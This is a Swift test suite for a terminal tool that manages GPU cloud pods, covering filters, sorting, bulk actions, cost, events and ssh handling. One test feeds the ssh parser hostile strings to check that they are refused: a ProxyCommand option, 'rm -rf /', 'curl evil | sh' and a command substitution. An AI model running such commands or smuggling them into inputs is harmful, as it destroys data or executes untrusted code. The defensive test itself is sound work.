import Foundation
import Testing
import PodAPI
@testable import PodTUICore

/// Filter, sort, marks, bulk actions, cost, events and the `:` command line.
@Suite("Working with many pods")
struct ManyPodsTests {
    let now = Fixtures.now
    let pods = Fixtures.pods

    @discardableResult
    func keys(_ state: inout AppState, _ keys: [Key]) -> [Effect] {
        var effects: [Effect] = []
        for k in keys { effects += Reducer.reduce(&state, .key(k, now)) }
        return effects
    }

    func type(_ state: inout AppState, _ text: String) -> [Effect] { keys(&state, text.map { Key.char($0) }) }

    // MARK: Filter language

    @Test("plain words match name, image, GPU, region, status or id, any case", arguments: [
        ("llama", ["llama-ft-7"]),
        ("H100", ["llama-ft-7"]),
        ("4090", ["broken", "sd-xl-train"]),
        ("us-west", ["sd-xl-train"]),
        ("paused", ["sd-xl-train"]),
        ("2274", ["qwen-eval"]),
        ("UBUNTU", ["broken", "llama-ft-7", "qwen-eval", "sd-xl-train"]),
    ])
    func plainWords(text: String, expected: [String]) {
        let filter = PodFilter(text)
        #expect(pods.filter { filter.matches($0) }.map(\.nameOrEmpty).sorted() == expected.sorted())
        // The fleet-wide search (one pass over the index) says the same as pod by pod.
        let hits = filter.hits(in: SearchIndex(pods))
        #expect(pods.indices.filter { hits[$0] }.map { pods[$0].nameOrEmpty }.sorted() == expected.sorted())
    }

    @Test("field:value narrows to one field, a,b means either, ! negates, words AND")
    func fields() {
        func names(_ text: String) -> [String] {
            let one = pods.filter { PodFilter(text).matches($0) }.map(\.nameOrEmpty).sorted()
            let hits = PodFilter(text).hits(in: SearchIndex(pods))
            #expect(pods.indices.filter { hits[$0] }.map { pods[$0].nameOrEmpty }.sorted() == one, "\(text)")
            return one
        }
        #expect(names("status:paused") == ["sd-xl-train"])
        #expect(names("status:running,failed") == ["broken", "llama-ft-7"])
        #expect(names("gpu:4090 !status:failed") == ["sd-xl-train"])
        #expect(names("region:us-east-1 gpu:h100") == ["llama-ft-7"])
        #expect(names("!llama !qwen") == ["broken", "sd-xl-train"])
        #expect(names("name:east") == [])   // "east" only in the region
        #expect(names("id:362740422811062273") == ["sd-xl-train"])
        #expect(PodFilter("colour:red").unknownFields == ["colour"])
        #expect(PodFilter("").isEmpty && PodFilter("   ").isEmpty)
    }

    @Test("exact status and known region words go to the server; partial or negated ones stay local")
    func serverQuery() {
        let regions: Set<String> = ["us-east-1", "us-west-1"]
        #expect(PodFilter("status:paused region:us-east-1").serverQuery(knownRegions: regions)
                == ServerQuery(regions: ["us-east-1"], statuses: [.paused]))
        #expect(PodFilter("status:pau region:us-east").serverQuery(knownRegions: regions).isEmpty)
        #expect(PodFilter("!status:paused").serverQuery(knownRegions: regions).isEmpty)
        #expect(PodFilter("status:running,paused").serverQuery(knownRegions: regions).statuses == [.running, .paused])
    }

    @Test("/ filters as you type, keeps the selection when it still matches, Esc clears")
    func filterKeys() {
        var state = Fixtures.loaded()
        state.nav.selectedID = pods[1].id   // sd-xl-train
        keys(&state, [.char("/")])
        _ = type(&state, "4090")
        #expect(state.fleet.pods.map(\.name) == ["broken", "sd-xl-train"])
        #expect(state.selectedPod?.name == "sd-xl-train")
        keys(&state, [.enter])
        #expect(state.nav.input == nil && state.fleet.filter.text == "4090")
        keys(&state, [.escape])
        #expect(state.fleet.filter.isEmpty && state.fleet.pods.count == 4)
    }

    @Test("a status filter asks the server with statusList, one request at a time")
    func filterFetches() {
        var state = Fixtures.loaded()
        keys(&state, [.char("/")])
        let effects = type(&state, "status:paused")
        #expect(effects.last == .fetchPods(generation: 2, ServerQuery(statuses: [.paused])))
        // Narrowing further while that request is out sends nothing more now…
        #expect(type(&state, " region:us-west-1") == [])
        // …and as soon as the reply is in, the next poll carries the current query.
        _ = Reducer.reduce(&state, .podsLoaded(generation: 2, PodList(pods: [pods[1]]), now))
        #expect(Reducer.reduce(&state, .tick(now)) == [.fetchPods(generation: 3, ServerQuery(regions: ["us-west-1"], statuses: [.paused]))])
    }

    // MARK: Sort

    @Test("sorting is stable and numeric where numeric; the same key flips the direction")
    func sorting() {
        var state = Fixtures.loaded()
        keys(&state, [.char("P")])   // $/h: biggest first
        #expect(state.fleet.pods.map(\.name) == ["llama-ft-7", "qwen-eval", "broken", "sd-xl-train"])
        keys(&state, [.char("P")])
        #expect(state.fleet.pods.map(\.name) == ["broken", "sd-xl-train", "qwen-eval", "llama-ft-7"])   // ties by name
        keys(&state, [.char("A")])   // youngest first
        #expect(state.fleet.pods.first?.name == "qwen-eval")
        keys(&state, [.char("S")])   // failed first
        #expect(state.fleet.pods.map(\.status) == [.failed, .initializing, .running, .paused])
        keys(&state, [.char("X")])   // GPU count, most first: 8, 2, 1, 1 (ties by name)
        #expect(state.fleet.pods.map(\.name) == ["llama-ft-7", "qwen-eval", "broken", "sd-xl-train"])
    }

    @Test("the sort and the selected pod survive a refresh with changed data")
    func sortSurvives() {
        var state = Fixtures.loaded()
        keys(&state, [.char("P")])
        state.nav.selectedID = pods[2].id
        var changed = pods
        changed[1].singleCardPrice = 50   // sd-xl-train becomes the most expensive
        _ = Reducer.reduce(&state, .tick(now.addingTimeInterval(5)))
        _ = Reducer.reduce(&state, .podsLoaded(generation: 2, PodList(pods: changed), now))
        #expect(state.fleet.sort == SortSpec(column: .price, ascending: false))
        #expect(state.fleet.pods.first?.name == "sd-xl-train")
        #expect(state.nav.selectedID == pods[2].id)
    }

    @Test(":sort takes a column and a direction")
    func sortCommand() {
        var state = Fixtures.loaded()
        keys(&state, [.char(":")])
        _ = type(&state, "sort region desc")
        keys(&state, [.enter])
        #expect(state.fleet.sort == SortSpec(column: .region, ascending: false))
        #expect(state.fleet.pods.first?.region == "us-west-1")
    }

    // MARK: Marks and bulk

    @Test("space marks and moves down; * marks what the filter shows; u clears; marks survive refreshes")
    func marks() {
        var state = Fixtures.loaded()
        keys(&state, [.char("g"), .char(" "), .char(" ")])
        #expect(state.fleet.marks == [pods[3].id, pods[0].id])   // broken, llama-ft-7
        _ = Reducer.reduce(&state, .tick(now.addingTimeInterval(5)))
        _ = Reducer.reduce(&state, .podsLoaded(generation: 2, PodList(pods: Array(pods.dropLast())), now))
        #expect(state.fleet.marks == [pods[0].id])   // broken is gone, its mark with it
        keys(&state, [.char("u")])
        #expect(state.fleet.marks.isEmpty)
        keys(&state, [.char("/")])
        _ = type(&state, "4090")
        keys(&state, [.enter, .char("*")])
        #expect(state.fleet.marks == [pods[1].id])
    }

    @Test("with marks, p asks first, lists the pods and the $/h saved, then pauses only those it applies to")
    func bulkPause() {
        var state = Fixtures.loaded()
        state.fleet.marks = Set(pods.map(\.id))
        #expect(keys(&state, [.char("p")]) == [])
        #expect(state.nav.overlay == .confirmBulk(.pause))
        let plan = BulkPlan(action: .pause, state: state)
        #expect(plan.applicable.map(\.name) == ["llama-ft-7"])
        #expect(plan.skipped.count == 3)
        #expect(plan.savingsPerHour == 19.2)
        let effects = keys(&state, [.char("y")])
        #expect(effects == [.perform(.pause, podID: pods[0].id)])
        #expect(state.fleet.marks.isEmpty && state.bulk?.skipped == 3)
        _ = Reducer.reduce(&state, .actionFinished(podID: pods[0].id, .pause, nil, now))
        #expect(state.bulk == nil)
        #expect(state.message?.text == "Pause: 1/1 done, 3 skipped — see :events")
    }

    @Test("bulk results report each failure; n cancels without sending")
    func bulkResults() {
        var state = Fixtures.loaded([Fixtures.pod(1, "a", .running), Fixtures.pod(2, "b", .running), Fixtures.pod(3, "c", .running)])
        state.fleet.marks = [1, 2, 3]
        keys(&state, [.char("d"), .char("n")])
        #expect(state.nav.overlay == nil && state.fleet.pending.isEmpty)
        let effects = keys(&state, [.char("d"), .char("y")])
        #expect(effects.count == 3)
        _ = Reducer.reduce(&state, .actionFinished(podID: 1, .delete, nil, now))
        _ = Reducer.reduce(&state, .actionFinished(podID: 2, .delete, .http(status: 500, body: ""), now))
        #expect(state.message?.text == "Delete: 2/3 done, 1 failed (b: Server error (HTTP 500))")
        _ = Reducer.reduce(&state, .actionFinished(podID: 3, .delete, nil, now))
        #expect(state.bulk == nil)
        #expect(state.events.filter { $0.kind == .bad }.count == 1)
    }

    @Test("read-only refuses bulk actions too")
    func bulkReadOnly() {
        var state = Fixtures.loaded()
        state.settings.readOnly = true
        state.fleet.marks = Set(pods.map(\.id))
        // No confirmation opens, so the y that would confirm it is just y (the raw view).
        #expect(!keys(&state, [.char("p"), .char("y")]).contains { if case .perform = $0 { true } else { false } })
        #expect(state.nav.overlay == nil)
    }

    // MARK: Cost, events, announcements

    @Test("cost so far is price × hours since created, for running pods only")
    func cost() {
        let running = Fixtures.pod(1, "a", .running, count: 2, age: 5400, price: 2.0)   // 4 $/h for 1.5 h
        #expect(Cost.sinceStart(running, now: now) == 6.0)
        #expect(Cost.sinceStart(Fixtures.pod(2, "b", .paused, age: 5400), now: now) == nil)
        #expect(Cost.sinceStart(Fixtures.pod(3, "c", .running, price: nil), now: now) == nil)
        #expect(Fixtures.loaded().runningCostPerHour == 19.2)
    }

    @Test("a pod's status announcement leaves the user's own result on the message line for 5 s")
    func announcementsYield() {
        var state = Fixtures.loaded()
        var next = pods
        next[2].status = .running
        state.now = now.addingTimeInterval(4)
        state.say("Create volume ceph-new: done", .success)
        _ = Reducer.reduce(&state, .tick(now.addingTimeInterval(5)))
        _ = Reducer.reduce(&state, .podsLoaded(generation: 2, PodList(pods: next), now.addingTimeInterval(5)))
        #expect(state.message?.text == "Create volume ceph-new: done")
        #expect(state.events.map(\.text).contains("qwen-eval: INITIALIZE → RUNNING"))
        // Older than 5 s: the announcement takes the line.
        var later = Fixtures.loaded()
        later.now = now.addingTimeInterval(-10)
        later.say("Create volume ceph-new: done", .success)
        _ = Reducer.reduce(&later, .tick(now.addingTimeInterval(5)))
        _ = Reducer.reduce(&later, .podsLoaded(generation: 2, PodList(pods: next), now.addingTimeInterval(5)))
        #expect(later.message?.text == "qwen-eval is now RUNNING")
    }

    @Test("status changes go to the timeline and events; RUNNING is announced, with bell and OSC notification when enabled")
    func events() {
        var state = Fixtures.loaded()
        state.settings.notifications = true
        var next = pods
        next[2].status = .running   // qwen-eval finished initializing
        _ = Reducer.reduce(&state, .tick(now.addingTimeInterval(5)))
        _ = Reducer.reduce(&state, .podsLoaded(generation: 2, PodList(pods: next.filter { $0.name != "broken" }), now.addingTimeInterval(5)))
        #expect(state.fleet.history[pods[2].id]?.map(\.status) == [.initializing, .running])
        #expect(state.events.map(\.text) == ["qwen-eval: INITIALIZE → RUNNING", "broken: gone"])
        #expect(state.io.outbox.map(\.kind).contains(.bell))
        #expect(state.io.outbox.map(\.kind).contains(.notify("podtui", "qwen-eval is now RUNNING")))
        #expect(state.fleet.changedAt[pods[2].id] != nil)
    }

    @Test("under a server-side filter pods leaving the reply are not called gone, and results still name them")
    func serverFilterEvents() {
        var state = Fixtures.loaded()
        keys(&state, [.char("/")])
        _ = type(&state, "status:running")
        keys(&state, [.enter])
        _ = Reducer.reduce(&state, .podsLoaded(generation: 2, PodList(pods: [pods[0]]), now))
        state.nav.selectedID = pods[0].id
        _ = keys(&state, [.char("p")])
        _ = Reducer.reduce(&state, .tick(now.addingTimeInterval(5)))
        _ = Reducer.reduce(&state, .podsLoaded(generation: 3, PodList(pods: []), now))   // PAUSING left the filter
        _ = Reducer.reduce(&state, .actionFinished(podID: pods[0].id, .pause, nil, now))
        #expect(state.events.map(\.text) == ["llama-ft-7: pause requested"])
        keys(&state, [.escape])   // clearing the filter brings everything back without "appeared"
        _ = Reducer.reduce(&state, .podsLoaded(generation: state.connection.generation, PodList(pods: pods), now))
        #expect(state.events.count == 1)
    }

    @Test("pods gone for an hour are forgotten, so long sessions do not grow")
    func forgetGone() {
        var state = Fixtures.loaded()
        let gone = pods[3].id
        _ = Reducer.reduce(&state, .tick(now.addingTimeInterval(5)))
        _ = Reducer.reduce(&state, .podsLoaded(generation: 2, PodList(pods: Array(pods.prefix(3))), now.addingTimeInterval(5)))
        #expect(state.fleet.history[gone]?.last?.seen == .gone && state.fleet.names[gone] != nil)
        let later = now.addingTimeInterval(5 + Reducer.forgetGoneAfter + 1)
        _ = Reducer.reduce(&state, .tick(later))
        var changed = Array(pods.prefix(3))
        changed[0].gpuCount = 4   // a changed reply, so the list is applied again
        _ = Reducer.reduce(&state, .podsLoaded(generation: 3, PodList(pods: changed), later))
        #expect(state.fleet.history[gone] == nil && state.fleet.names[gone] == nil)
    }

    @Test("the first load announces nothing")
    func firstLoadQuiet() {
        var state = Fixtures.loaded()
        state.settings.notifications = true
        #expect(state.events.isEmpty && state.io.outbox.isEmpty)
    }

    @Test("polling slows when nothing changes, never under the floor, and after a 429")
    func adaptive() {
        var state = Fixtures.loaded(pods.filter { !$0.status.isTransitional })
        state.lastActivity = now
        #expect(Reducer.pollInterval(state) == 3)
        state.now = now.addingTimeInterval(120)
        #expect(Reducer.pollInterval(state) == 6)
        state.now = now.addingTimeInterval(600)
        #expect(Reducer.pollInterval(state) == 12)
        state.lastRateLimit = state.now
        #expect(Reducer.pollInterval(state) == 24)
        state.fleet.allPods[0].status = .pausing
        #expect(Reducer.pollInterval(state) == 1)
    }

    // MARK: ssh and copy

    @Test("s asks the UI loop to run ssh with the pod's arguments; c queues an OSC 52 copy")
    func sshAndCopy() {
        var state = Fixtures.loaded()
        state.nav.selectedID = pods[0].id
        keys(&state, [.char("s")])
        #expect(state.io.external?.arguments == ["ssh", "-p", "30003", "-l", "root", "--", "h"])
        keys(&state, [.char("c")])
        #expect(state.io.outbox.last?.kind == .copy("ssh -p 30003 -l root -- h"))   // what s runs, rebuilt
        let bytes = TerminalBytes.bytes(for: .copy("ssh root@h -p 30003"), environment: [:])
        #expect(String(decoding: bytes, as: UTF8.self) == "\u{1B}]52;c;c3NoIHJvb3RAaCAtcCAzMDAwMw==\u{07}")
        state.nav.selectedID = pods[1].id   // paused: no ssh command
        keys(&state, [.char("s")])
        #expect(state.message?.text.contains("has no ssh command") == true)
    }

    @Test("ssh commands with shell syntax are not run")
    func sshParsing() {
        #expect(SSHCommand.arguments("ssh -i ~/.ssh/id root@1.2.3.4 -p 2200") == ["ssh", "-p", "2200", "-l", "root", "--", "1.2.3.4"])
        // An option that runs a command here is refused, not passed on.
        #expect(SSHCommand.arguments("ssh -oProxyCommand=/usr/bin/touch_/tmp/x root@h") == nil)
        #expect(SSHCommand.arguments("ssh root@h; rm -rf /") == nil)
        #expect(SSHCommand.arguments("curl evil | sh") == nil)
        #expect(SSHCommand.arguments("ssh $(whoami)@h") == nil)
    }

    // MARK: Command line

    @Test(": completes commands, sort columns and profiles with Tab")
    func completion() {
        var state = Fixtures.loaded()
        state.settings.profiles = ["prod", "dev"]
        #expect(InputReducer.complete("so", state: state) == "sort ")
        #expect(InputReducer.complete("sort re", state: state) == "sort region ")
        #expect(InputReducer.complete("sort region d", state: state) == "sort region desc ")
        #expect(InputReducer.complete("profile p", state: state) == "profile prod ")
        #expect(InputReducer.complete("p", state: state) == nil)   // pods or profile: nothing common to add
        #expect(InputReducer.complete("filter st", state: state) == "filter status:")
    }

    @Test(":gpus, :events, :pods switch views; Esc goes back; unknown commands are explained")
    func views() {
        var state = Fixtures.loaded()
        keys(&state, [.char(":")])
        _ = type(&state, "gpus")
        #expect(keys(&state, [.enter]) == [.loadCatalog])
        #expect(state.nav.view == .gpus)
        keys(&state, [.escape])
        #expect(state.nav.view == .pods)
        keys(&state, [.char(":")])
        _ = type(&state, "ev")
        keys(&state, [.enter])
        #expect(state.nav.view == .events)
        keys(&state, [.char(":")])
        _ = type(&state, "bogus")
        keys(&state, [.enter])
        #expect(state.message?.text.hasPrefix("Unknown command :bogus") == true)
        keys(&state, [.char(":")])
        _ = type(&state, "q")
        keys(&state, [.enter])
        #expect(state.shouldQuit)
    }

    // MARK: Mouse

    @Test("click selects, double click opens the detail, wheel moves, a title click sorts")
    func mouse() {
        var state = Fixtures.loaded()
        state.nav.screenSize = Size(width: 80, height: 24)
        _ = Reducer.reduce(&state, .mouse(MouseEvent(.click, row: 4, col: 5), now))
        #expect(state.selectedPod?.name == "qwen-eval")
        _ = Reducer.reduce(&state, .mouse(MouseEvent(.wheelUp, row: 4, col: 5), now))
        #expect(state.selectedPod?.name == "broken")
        _ = Reducer.reduce(&state, .mouse(MouseEvent(.doubleClick, row: 3, col: 5), now))
        #expect(state.nav.focus == .detail && state.selectedPod?.name == "llama-ft-7")
        state.nav.focus = .list
        _ = Reducer.reduce(&state, .mouse(MouseEvent(.click, row: 1, col: 70), now))   // the AGE title
        #expect(state.fleet.sort.column == .age)
    }
}

@Suite("Command line completion edge cases")
struct CompletionEdgeTests {
    @Test("a line of only spaces completes to nothing instead of crashing")
    func onlySpaces() {
        let state = Fixtures.loaded()
        #expect(InputReducer.complete(" ", state: state) == nil)
        #expect(InputReducer.complete("   ", state: state) == nil)
    }
}
